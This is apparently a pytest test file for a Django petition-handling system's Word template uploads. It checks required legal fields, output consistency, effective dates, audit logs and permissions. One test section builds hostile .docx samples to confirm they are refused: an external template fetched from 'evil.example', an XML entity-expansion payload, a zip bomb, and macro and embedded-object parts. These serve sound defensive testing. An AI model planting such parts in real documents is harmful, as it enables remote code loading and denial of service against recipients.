"""A template of the office's own: what it must have, what is refused, from when it is used, and that both outputs follow it."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.html import strip_tags
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import given, settings
from hypothesis import strategies as st

from accounts.actor import Actor
from accounts.dates import today
from accounts.errors import BadInput, WrongMoment, WrongPerson
from accounts.models import AccessLog
from petitions import docx, layout, paper_templates, papers, sample_matter, wordfile, wording
from petitions.accusations import papers as sealed_papers
from petitions.models import Paper, PaperTemplate, PaperTemplateUse
from petitions.paper_templates import KINDS, SHIPPED_SERIAL
from petitions.parts import Gathering
from tests.cast import Cast
from tests.makes import Makes
from tests.petitions.accusations import Sealed

SignIn = Callable[[Actor], Client]
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
SHIPPED = str(SHIPPED_SERIAL)


@pytest.fixture(autouse=True)
def _no_words_of_an_office(monkeypatch: pytest.MonkeyPatch) -> None:
    """Templates alone can be tried without a database."""
    monkeypatch.setattr(wording, "unfilled", lambda _kind: wording.Around())


def context_of(code: str) -> dict[str, Any]:
    kind = KINDS[code]
    context = sample_matter.matter() | {"kind": kind.law, "around": wording.Around()}
    if kind.sealed:
        context = {name: words for name, words in context.items() if name != "petition"} | sample_matter.guarded()
    return context


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def edited(change: Callable[[Any], object], code: str = "accept_notice") -> bytes:
    """The shipped template as an office changes it in Word."""
    document = Document(io.BytesIO(paper_templates.word_file(code, None)))
    change(document)
    return saved(document)


def line_with(document: Any, words: str) -> Any:
    return next(paragraph for paragraph in document.paragraphs if words in paragraph.text)


def own_words(document: Any) -> None:
    """A sentence more in bold, one in the middle, and the contact in a table."""
    line_with(document, "收悉").add_run("请妥善保管本告知书。").bold = True
    line_with(document, "收悉").insert_paragraph_before("（一式两份）", style="公文正文").alignment = 1
    contact = line_with(document, "联系单位")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "联系单位", "【联系单位】"
    contact._p.addprevious(table._tbl)
    contact._p.getparent().remove(contact._p)


# --- the shipped templates ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", KINDS)
def test_a_template_uploaded_as_it_was_downloaded_gives_the_very_same_paper(code: str) -> None:
    context = context_of(code)
    own = wordfile.read(paper_templates.word_file(code, None))
    assert paper_templates.faults(code, own) == []
    shipped = docx.layout_of(paper_templates.filled(code, context, None))
    assert docx.layout_of(paper_templates.filled(code, context, own)) == shipped
    assert layout.from_json(layout.to_json(own)) == own


@pytest.mark.parametrize("code", KINDS)
def test_the_made_up_matter_has_words_for_every_place(code: str) -> None:
    gathering = Gathering()
    paper_templates.render_to_string(KINDS[code].file, {**context_of(code), "gathering": gathering})
    known = paper_templates.places(code).parts
    assert {name for name in known if not gathering.values.get(name, "").strip()} == set()
    signed = set() if code.endswith("review_application") else {"署名", "成文日期"}  # what the applicant signs himself
    assert {"文号"} | signed <= {name for name, part in known.items() if part.must}


@pytest.mark.parametrize("code", KINDS)
def test_words_that_end_a_sentence_end_it_once(code: str) -> None:
    text = strip_tags(paper_templates.render_to_string(KINDS[code].file, context_of(code)))
    assert not re.search(r"[。；][\s]*[。；，]|。——", text), text


@pytest.mark.parametrize(
    ("code", "words"),
    [("opinion", "救济途径"), ("duty_reply", "救济途径"), ("review_opinion", "救济途径"), ("accept_notice", "办理期限"),
     ("transfer_letter", "期限提示"), ("assign_letter", "期限"), ("not_accepted_notice", "不受理条款"), ("guarded_letter", "保密要求"),
     ("opinion", "事实"), ("opinion", "主送"), ("opinion", "编号"), ("service_receipt", "签收情况")],
)  # fmt: skip
def test_what_the_law_wants_told_cannot_be_left_out(code: str, words: str) -> None:
    def drop(document: Any) -> None:
        for paragraph in [one for one in document.paragraphs if f"【{words}】" in one.text]:
            paragraph._p.getparent().remove(paragraph._p)

    (fault, *_) = paper_templates.faults(code, wordfile.read(edited(drop, code)))
    assert fault.startswith("缺少") and f"【{words}】" in fault and KINDS[code].article in fault


def test_everything_wrong_is_said_at_once() -> None:
    def spoil(document: Any) -> None:
        title = line_with(document, "受理告知书")
        title._p.getparent().remove(title._p)
        line_with(document, "【诉求和办理途径】").add_run("如下")
        line_with(document, "收悉").add_run("【身份证号】【未完")

    found = paper_templates.faults("accept_notice", wordfile.read(edited(spoil)))
    assert [fault[:4] for fault in found] == ["没有标题", "有【或者", "没有【身", "【诉求和"]
    assert "【标题】" in found[2] and "单独成段" in found[3]


# --- files that are refused ---------------------------------------------------------------------------------------


def repacked(change: dict[str, bytes | None], *, drop: str = "") -> bytes:
    """The shipped template with other parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(paper_templates.word_file("opinion", None))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:  # fmt: skip
        for name in old.namelist():
            if name not in change and name != drop:
                new.writestr(name, old.read(name))
        for name, content in change.items():
            new.writestr(name, content or b"")
    return out.getvalue()


def in_body(xml: str) -> Callable[[Any], object]:
    return lambda document: document.element.body.insert(1, parse_xml(xml.replace("w:p>", f"w:p {nsdecls('w')}>", 1)))


_RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "no archive": (lambda: b"hello", "不是 .docx"),
    "nothing": (lambda: b"", "不是 .docx"),
    "cut off": (lambda: paper_templates.word_file("opinion", None)[:-400], "不是 .docx"),
    "an archive of something else": (lambda: repacked({}, drop="word/document.xml"), "不是 .docx"),
    "a macro": (lambda: repacked({"word/vbaProject.bin": b"x"}), "宏"),
    "an embedded program": (lambda: repacked({"word/embeddings/oleObject1.bin": b"x"}), "嵌入"),
    "a template fetched from outside": (lambda: repacked({"word/_rels/settings.xml.rels": _RELS}), "evil.example"),
    "entities": (lambda: repacked({"word/settings.xml": _LAUGHS}), "DTD"),
    "broken XML": (lambda: repacked({"word/styles.xml": b"<a>"}), "打不开"),
    "a bomb": (lambda: repacked({"word/big.xml": b"<a>" + b" " * 22 * 2**20 + b"</a>"}), "太大"),
    "too many parts": (lambda: repacked({f"word/p{n}.xml": b"<a/>" for n in range(300)}), "太大"),
    "too large": (lambda: b"x" * (wordfile.LARGEST + 1), "超过2MB"),
    "a picture": (lambda: edited(in_body("<w:p><w:r><w:drawing/></w:r></w:p>")), "图片"),
    "a change that nobody accepted": (lambda: edited(in_body("<w:p><w:ins><w:r><w:t>加</w:t></w:r></w:ins></w:p>")), "修订"),
    "a date that changes": (lambda: edited(in_body("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r></w:p>")), "域"),
    "numbers that Word makes": (lambda: edited(in_body("<w:p><w:pPr><w:numPr/></w:pPr><w:r><w:t>一</w:t></w:r></w:p>")), "自动编号"),
    "a new page": (lambda: edited(in_body("<w:p><w:r><w:br w:type='page'/></w:r></w:p>")), "分页"),
    "a footnote": (lambda: edited(in_body("<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p>")), "脚注"),
    "words at the head of the pages": (lambda: edited(lambda document: document.sections[0].header.paragraphs[0].add_run("内部")), "页眉"),
    "a table in a table": (lambda: edited(lambda document: document.add_table(1, 1).cell(0, 0).add_table(1, 1)), "套着表格"),
    "rows of unlike width": (lambda: edited(lambda document: document.add_table(2, 2)._tbl.tr_lst[0].tc_lst[0].get_or_add_tcPr().append(parse_xml(f'<w:gridSpan {nsdecls("w")} w:val="999999"/>'))), "列数不一致"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_file_that_harms_or_would_lose_something_is_refused_with_its_reason(name: str) -> None:
    make, reason = HOSTILE[name]
    with pytest.raises(wordfile.NotTaken) as refused:
        wordfile.read(make())
    assert any(reason in fault for fault in refused.value.faults), refused.value.faults


def test_a_footer_that_names_no_part_is_refused() -> None:
    whole = zipfile.ZipFile(io.BytesIO(paper_templates.word_file("accept_notice", None)))
    spoiled = io.BytesIO()
    with zipfile.ZipFile(spoiled, "w") as archive:
        for name in whole.namelist():
            content = whole.read(name)
            if name == "word/document.xml":
                content, many = re.subn(rb'(<w:footerReference[^>]*?) r:id="[^"]*"', rb"\1", content)
                assert many
            archive.writestr(name, content)
    with pytest.raises(wordfile.NotTaken, match="打不开"):
        wordfile.read(spoiled.getvalue())


@settings(deadline=None, max_examples=60)
@given(at=st.floats(0, 1, exclude_max=True), byte=st.integers(0, 255), part=st.sampled_from(["word/document.xml", "word/styles.xml", ""]))  # fmt: skip
def test_a_file_damaged_anywhere_is_read_or_refused_and_never_breaks_the_page(at: float, byte: int, part: str) -> None:
    content = paper_templates.word_file("opinion", None)
    if part:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            inside = bytearray(archive.read(part))
        inside[int(at * len(inside))] = byte
        content = repacked({part: bytes(inside)})
    else:
        whole = bytearray(content)
        whole[int(at * len(whole))] = byte
        content = bytes(whole)
    with suppress(wordfile.NotTaken):
        assert isinstance(paper_templates.faults("opinion", wordfile.read(content)), list)


# --- both outputs follow it ---------------------------------------------------------------------------------------


def test_bold_words_a_line_in_the_middle_and_a_table_stand_in_the_page_and_in_the_word_file() -> None:
    own = wordfile.read(edited(own_words))
    assert paper_templates.faults("accept_notice", own) == []
    html = paper_templates.filled("accept_notice", context_of("accept_notice"), own)
    assert "<strong>请妥善保管本告知书。</strong>" in html and '<p class="at-centre">（一式两份）</p>' in html
    assert '<td><p class="flush">某县住房和城乡建设局，电话：0579-00000000</p></td>' in html
    document = Document(io.BytesIO(docx.of(html, title="样张", issued_on=today())))
    assert [cell.text for cell in document.tables[0].rows[0].cells] == [
        "联系单位",
        "某县住房和城乡建设局，电话：0579-00000000",
    ]
    assert [run.text for run in line_with(document, "收悉").runs if run.bold] == ["请妥善保管本告知书。"]
    assert docx.layout_of(html) == wordfile.read(saved(document))


def test_a_line_whose_places_are_all_empty_is_left_out_and_words_of_a_petitioner_are_no_places() -> None:
    own = wordfile.read(paper_templates.word_file("assign_letter", None))
    context = context_of("assign_letter") | {"note": "", "petitioner": "<b>【文号】"}
    html = paper_templates.filled("assign_letter", context, own)
    assert "说明：" not in html and "&lt;b&gt;【文号】" in html and "<b>" not in html


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed (.ci/run installs libreoffice-writer)")
def test_templates_saved_by_libreoffice_say_the_same(tmp_path: Path) -> None:
    given = {code: paper_templates.word_file(code, None) for code in ("opinion", "transfer_letter", "guarded_letter")}
    given["own"] = edited(own_words)
    for name, content in given.items():
        (tmp_path / f"{name}.docx").write_bytes(content)
    files = [str(tmp_path / f"{name}.docx") for name in given]
    profile, out = f"-env:UserInstallation=file://{tmp_path}/profile", tmp_path / "out"
    subprocess.run(
        [str(OFFICE), profile, "--headless", "--convert-to", "docx:MS Word 2007 XML", "--outdir", str(out), *files],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    for name, content in given.items():
        assert wordfile.read((out / f"{name}.docx").read_bytes()) == wordfile.read(content), name


# --- from a day on ------------------------------------------------------------------------------------------------


def put(cast: Cast, *, days: int = 0, code: str = "accept_notice", change: Callable[[Any], object] = own_words) -> PaperTemplate:  # fmt: skip
    row = paper_templates.upload(code, edited(change, code), "本地.docx", by=cast.system_admin)
    paper_templates.use(code, row, by=cast.system_admin, valid_from=today() + timedelta(days=days), reason="统一格式")
    return row


def accepted(make: Makes) -> str:
    return papers.html_of(Paper.objects.get(petition=make.handling().petition, kind="accept_notice"))


@pytest.mark.django_db
def test_papers_go_out_in_it_from_its_day_and_what_was_issued_stays(cast: Cast, make: Makes) -> None:
    before = Paper.objects.get(petition=make.handling().petition, kind="accept_notice")
    words = papers.html_of(before)
    put(cast, days=1)
    assert "妥善保管" not in accepted(make)
    put(cast)
    assert "妥善保管" in accepted(make)
    assert papers.html_of(before) == words
    paper_templates.use("accept_notice", None, by=cast.system_admin, valid_from=today(), reason="恢复")
    assert "妥善保管" not in accepted(make)
    assert list(PaperTemplate.objects.order_by("serial").values_list("serial", flat=True)) == [1, 2]


@pytest.mark.django_db
def test_who_and_why_are_written_down_and_a_coming_day_can_be_called_off(cast: Cast) -> None:
    put(cast)
    put(cast, days=2)
    coming = PaperTemplateUse.objects.latest("pk")
    paper_templates.call_off("accept_notice", coming, by=cast.system_admin)
    with pytest.raises(WrongMoment):
        paper_templates.call_off("accept_notice", PaperTemplateUse.objects.get(), by=cast.system_admin)
    told = AccessLog.objects.filter(target="template:accept_notice").order_by("pk")
    assert [row.data["what"] for row in told] == ["上传模板", "启用模板", "上传模板", "启用模板", "取消启用"]
    assert told[1].data["reason"] == "统一格式" and told[1].user_id == cast.system_admin.user.pk


@pytest.mark.django_db
def test_no_other_administrator_no_past_day_and_nothing_without_a_reason(cast: Cast) -> None:
    row = put(cast)
    for other in (cast.security_admin, cast.audit_admin, cast.head):
        with pytest.raises(WrongPerson):
            paper_templates.upload("accept_notice", edited(own_words), "a.docx", by=other)
        with pytest.raises(WrongPerson):
            paper_templates.use("accept_notice", row, by=other, valid_from=today(), reason="改")
    for day, reason in ((today() - timedelta(days=1), "改"), (today(), " ")):
        with pytest.raises(BadInput):
            paper_templates.use("accept_notice", row, by=cast.system_admin, valid_from=day, reason=reason)
    assert PaperTemplateUse.objects.count() == 1


@pytest.mark.django_db
def test_a_paper_of_a_sealed_report_follows_its_template_too(cast: Cast) -> None:
    put(cast, code="guarded_reply", change=lambda document: line_with(document, "现答复如下").add_run("（密）"))
    sealed = Sealed(cast)
    row = sealed.resulted()
    sealed.take(row, "answer", how="letter", answer="已核查。")
    html = sealed_papers.html_of(row.papers.get(kind="reply"))
    assert "现答复如下：（密）" in html and "已核查。" in html


# --- the pages ----------------------------------------------------------------------------------------------------


def sent(content: bytes, name: str = "模板.docx") -> dict[str, SimpleUploadedFile]:
    return {"file": SimpleUploadedFile(name, content)}


@pytest.mark.django_db
def test_the_pages_from_the_download_to_the_day_it_is_used(cast: Cast, signed_in: SignIn) -> None:
    client = signed_in(cast.system_admin)
    room = "/manage/templates/opinion"
    assert "恢复系统原样" not in client.get(f"{room}/{SHIPPED}/").content.decode(), "it is what is used"
    file = client.get(f"{room}/{SHIPPED}/file/")
    assert file["Content-Type"] == docx.MEDIA_TYPE
    refused = client.post(
        f"{room}/upload/", sent(edited(lambda document: line_with(document, "【救济途径】").clear(), "opinion"))
    )
    assert refused.status_code == 422 and "缺少【救济途径】" in refused.content.decode()
    assert client.post(f"{room}/upload/", {}).status_code == 422 and not PaperTemplate.objects.exists()
    assert client.post(f"{room}/upload/", sent(file.content), follow=True).status_code == 200
    assert "30日内，向某县人民政府请求复查" in client.get(f"{room}/1/sample/").content.decode()
    assert "救济途径" in "".join(
        one.text for one in Document(io.BytesIO(client.get(f"{room}/1/word/").content)).paragraphs
    )
    assert client.post(f"{room}/1/", {"valid_from": "2020-01-01", "reason": "改"}).status_code == 422
    used = client.post(
        f"{room}/1/", {"valid_from": f"{today()}", "reason": "县信访局〔2026〕3号"}, follow=True
    ).content.decode()
    assert "第1版" in used and "县信访局〔2026〕3号" in used
    assert "自己的模板" in client.get("/manage/templates/").content.decode()
    assert "恢复系统原样" in client.get(f"{room}/{SHIPPED}/").content.decode()
    assert client.post(f"{room}/{SHIPPED}/", {"valid_from": f"{today()}", "reason": "恢复"}).status_code == 302
    for path in (f"{room}/9/", f"{room}/9/sample/", "/manage/templates/nothing/0/file/"):
        assert client.get(path).status_code == 404


@pytest.mark.django_db
def test_a_template_in_use_that_lacks_what_is_wanted_by_now_is_told_with_its_faults(
    cast: Cast, signed_in: SignIn
) -> None:
    client = signed_in(cast.system_admin)
    room, wrong = "/manage/templates/", "不合现在的要求"
    own = wordfile.read(
        edited(lambda document: _without(line_with(document, "【依据条款】"), "【依据条款】"), "assign_letter")
    )
    row = PaperTemplate.objects.create(  # taken in when nobody wanted the article in it
        kind="assign_letter", serial=1, layout=layout.to_json(own), name="本地.docx", uploaded_by=cast.system_admin.user
    )
    PaperTemplateUse.objects.create(
        kind="assign_letter", template=row, valid_from=today(), decided_by=cast.system_admin.user, reason="统一格式"
    )
    assert client.get(room).content.decode().count(wrong) == 1
    told = client.get(f"{room}assign_letter/").content.decode()
    assert wrong in told and "缺少【依据条款】" in told
    assert wrong not in client.get(f"{room}destination_notice/").content.decode()
    paper_templates.use("assign_letter", None, by=cast.system_admin, valid_from=today(), reason="恢复")
    assert wrong not in client.get(room).content.decode() + client.get(f"{room}assign_letter/").content.decode()


def _without(line: Any, words: str) -> None:
    """Take ``words`` out of a paragraph, whatever runs they stand in."""
    line.text = line.text.replace(words, "")
